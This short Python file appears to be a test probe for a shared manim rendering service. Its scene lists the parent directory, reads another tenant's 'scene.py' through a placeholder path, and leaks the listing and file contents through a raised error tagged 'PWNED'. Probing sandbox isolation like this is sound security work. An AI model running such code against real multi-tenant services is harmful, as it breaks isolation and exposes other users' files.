"""Another tenant's job dir sits next to ours: list the render root and read its files."""
from manim import *
import os

PWNED = "PWN" + "ED!"


class ReadSiblingJob(Scene):
    def construct(self):
        try:
            siblings = os.listdir("..")
        except OSError:
            siblings = []
        data = open("../@SIBLING@/scene.py").read()
        raise RuntimeError(f"{PWNED} {siblings} {data}")
